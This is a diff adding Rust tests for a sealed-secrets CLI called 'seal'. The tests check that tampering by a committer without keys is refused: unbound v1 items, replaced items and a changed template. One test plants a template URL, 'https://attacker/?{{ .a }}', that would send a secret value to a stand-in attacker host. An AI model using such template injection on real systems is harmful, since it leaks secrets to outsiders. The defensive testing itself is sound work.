@@ -1,0 +1,151 @@
+//! Attacks on `seal` with v2 values by a committer without keys, who changes the files that a user sets values in.
+#![expect(clippy::expect_used, reason = "a test")]
+
+use std::path::Path;
+use std::process::Output;
+
+use shared::manifest;
+use shared::resource::SealedSecret;
+use shared::v2::Object;
+
+use crate::support::{assert_code, assert_contains, git, write_files};
+use crate::v2::{RULES, folder, read, seal, seal_well};
+
+const CREATE: [&str; 6] = ["create", "db", "-n", "shop", "--from-file", "a=value"];
+
+/// Sets an item, in a file that it must not change.
+#[track_caller]
+fn assert_refused(folder: &Path, args: &[&str], file: &str, why: &str) -> Output {
+    let before = read(folder, file);
+    let output = seal(folder, args);
+    assert_code(&output, 2, why);
+    assert_contains(&output, why, format!("{args:?}"));
+    assert_eq!(read(folder, file), before);
+    output
+}
+
+fn set(item: &str) -> [&str; 5] {
+    ["set", "db.yaml", item, "--from-file", "value"]
+}
+
+/// Returns the line of an item in a file.
+fn line_of(text: &str, item: &str) -> String {
+    let start = format!("    {item}: ");
+    let line = text.lines().find(|line| line.starts_with(&start));
+    line.expect("an item").to_owned()
+}
+
+/// Adds a line to `encryptedData`.
+fn with_line(text: &str, line: &str) -> String {
+    text.replacen(
+        "  encryptedData:\n",
+        &format!("  encryptedData:\n{line}\n"),
+        1,
+    )
+}
+
+#[track_caller]
+fn is_bound(folder: &Path, item: &str) -> bool {
+    let documents = manifest::read(read(folder, "db.yaml").as_bytes()).expect("valid");
+    let (sealed, _) = SealedSecret::all_from_document(&documents[0]).expect("valid");
+    let object = Object::parse(&sealed[0].spec.encrypted_data).expect("valid");
+    object.view()[item].is_template_bound
+}
+
+/// Attack: a committer adds a v1 item to a bound file, so that the next value is sealed unbound and can be used in another
+/// template.
+#[test]
+fn a_v1_item_does_not_free_new_values_from_the_template() {
+    let folder = folder();
+    let folder = folder.path();
+    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    let v1 = [
+        "--sealed-format",
+        "v1",
+        "--cert",
+        "cert.pem",
+        "-w",
+        "v1.yaml",
+    ];
+    seal_well(
+        folder,
+        &[&CREATE[..], &["--from-file", "x=value"], &v1].concat(),
+    );
+    let line = line_of(&read(folder, "v1.yaml"), "x");
+    let text = with_line(&read(folder, "db.yaml"), &line);
+    write_files(folder, &[("db.yaml", &text)]);
+    let output = assert_refused(folder, &set("a"), "db.yaml", "is bound to the template");
+    assert_contains(&output, "seal unset", "the next step");
+    seal_well(folder, &["unset", "db.yaml", "x"]);
+    seal_well(folder, &set("a"));
+    assert!(is_bound(folder, "a"));
+}
+
+/// Attack: a committer replaces all bound items by unbound ones of their own, so that the next value is sealed unbound.
+#[test]
+fn unbound_items_do_not_free_new_values_from_the_template() {
+    let folder = folder();
+    let folder = folder.path();
+    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    let bound = read(folder, "db.yaml");
+    let unbound_rule = RULES.to_owned() + "  bindTemplate: false\n";
+    write_files(folder, &[(".seal.yaml", &unbound_rule)]);
+    let create = [&CREATE[..], &["--from-file", "b=value", "-w", "own.yaml"]].concat();
+    seal_well(folder, &create);
+    let own = read(folder, "own.yaml");
+
+    // The last commit has the binding.
+    write_files(folder, &[("db.yaml", &bound)]);
+    git(folder, &["init", "-q"]);
+    git(folder, &["add", "db.yaml"]);
+    git(folder, &["commit", "-qm", "bound"]);
+    write_files(folder, &[("db.yaml", &own)]);
+    let output = assert_refused(folder, &set("a"), "db.yaml", "no longer in the file");
+    assert_contains(&output, "seal diff", "the next step");
+
+    // The rule demands the binding.
+    git(folder, &["commit", "-qam", "unbound"]);
+    write_files(folder, &[(".seal.yaml", RULES)]);
+    let output = seal_well(folder, &set("a"));
+    assert!(
+        output.contains("seal rotate --to v2 --bind-template"),
+        "{output}"
+    );
+    assert!(is_bound(folder, "a") && !is_bound(folder, "b"));
+
+    // Neither does.
+    write_files(folder, &[(".seal.yaml", &unbound_rule), ("db.yaml", &own)]);
+    seal_well(folder, &set("a"));
+    assert!(!is_bound(folder, "a"));
+}
+
+/// Attack: a committer changes the template of a bound file, so that the next value is bound to the changed template.
+#[test]
+fn new_values_are_not_bound_to_a_changed_template() {
+    let folder = folder();
+    let folder = folder.path();
+    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    let bound = read(folder, "db.yaml");
+    let changed = bound.clone() + "    data:\n      url: 'https://attacker/?{{ .a }}'\n";
+    write_files(folder, &[("db.yaml", &changed)]);
+    let output = assert_refused(
+        folder,
+        &set("a"),
+        "db.yaml",
+        "the template of shop/db was changed",
+    );
+    assert_contains(&output, "revert the change", "the next step");
+
+    // The committer removes the bound item as well.
+    git(folder, &["init", "-q"]);
+    write_files(folder, &[("db.yaml", &bound)]);
+    git(folder, &["add", "db.yaml"]);
+    git(folder, &["commit", "-qm", "bound"]);
+    write_files(folder, &[("db.yaml", &changed)]);
+    seal_well(folder, &["unset", "db.yaml", "a"]);
+    assert_refused(folder, &set("a"), "db.yaml", "no longer in the file");
+    write_files(folder, &[("db.yaml", &bound)]);
+    seal_well(folder, &["unset", "db.yaml", "a"]);
+    seal_well(folder, &set("a"));
+    assert!(is_bound(folder, "a"), "the template is that of the commit");
+}
